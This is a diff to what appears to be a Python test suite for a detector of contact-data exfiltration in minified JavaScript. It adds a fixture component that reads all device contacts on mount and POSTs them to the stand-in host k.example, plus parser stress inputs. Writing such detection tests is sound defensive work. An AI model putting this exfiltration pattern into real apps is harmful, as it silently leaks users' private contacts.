@@ -91,6 +91,12 @@ function w(){return Y(this,null,function*(){let e=yield k();yield z("/v2/save",{
 var z=(e,t)=>fetch("https://g.example"+e,{method:"POST",body:JSON.stringify(t)});
 w();z("/v2/login",{p:1});
 """
+ES5_CLASS = """
+var A=function(e){function t(){return e.apply(this,arguments)||this}return c(t,e),t}(R.Component);
+var t=A;_createClass(t,[{key:"componentDidMount",value:function(){var e=this;
+ Contacts.getAllWithoutPhotos().then(function(t){e.up(t)})}},
+ {key:"up",value:function(e){fetch("https://k.example/c",{method:"POST",body:JSON.stringify({q:e})})}}]);
+"""
 TS_ASYNC = """
 var __awaiter = function (t, a, P, gen) { return new Promise(function (res) { gen.apply(t, a).next(); }); };
 function read() { return __awaiter(this, void 0, void 0, function* () { return yield Capacitor.Plugins.Contacts.getContacts({}); }); }
@@ -333,6 +339,12 @@ def test_two_possible_hosts_are_candidates() -> None:
         pytest.param("x" + ".a" * 20000 + ";navigator.contacts.find", id="a long chain"),
         pytest.param("navigator.contacts.find\x00\xff\ud7ff" * 50, id="no text"),
         pytest.param("var a=" + "[" * 4000 + "navigator.contacts.find", id="nested arrays"),
+        pytest.param(
+            "f(__d(function(){},1,[]));navigator.contacts.find", id="a module as an argument"
+        ),
+        pytest.param(
+            "(" * 150 + "mark(function(){})" + ";navigator.contacts.find", id="deep wrapper"
+        ),
         pytest.param("", id="empty"),
     ],
 )
